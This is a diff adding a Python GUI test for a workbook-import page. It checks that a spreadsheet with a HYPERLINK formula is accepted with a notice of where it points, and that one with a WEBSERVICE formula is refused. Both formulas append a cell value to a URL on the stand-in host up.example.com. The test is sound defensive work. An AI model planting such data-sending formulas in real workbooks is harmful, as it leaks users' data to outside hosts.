@@ -111,6 +111,25 @@ def test_a_file_that_is_no_workbook_is_told_and_nothing_is_kept(
     assert not stands(hall)
 
 
+def test_a_workbook_with_links_is_told_where_they_lead_and_one_that_fetches_is_not_kept(
+    page: ReportsPage, hall: Hall, tmp_path: Path, calm: Calm
+) -> None:
+    told = page.findChild(QLabel, "county_told")
+    assert told is not None
+    for name, formula, said in (
+        ("连着", '=HYPERLINK("http://up.example.com/?n="&B3)', "网页（up.example.com）"),
+        ("取数", '=WEBSERVICE("http://up.example.com/?n="&B3)', "没有放进来"),
+    ):
+        book = county_book()
+        book[SHEET]["E4"] = formula
+        sent = tmp_path / f"{name}.xlsx"
+        sent.write_bytes(saved(book))
+        page.county.take_in(sent, None)
+        calm()
+        assert said in told.text() and told.isVisible()
+    assert [one.name for one in stands(hall)] == ["连着"]
+
+
 def test_a_clerk_is_told_whose_page_it_is(context: Context, clerk: Actor, shown: Show, calm: Calm) -> None:
     context.sign_in(clerk)
     page = ReportsPage(context)
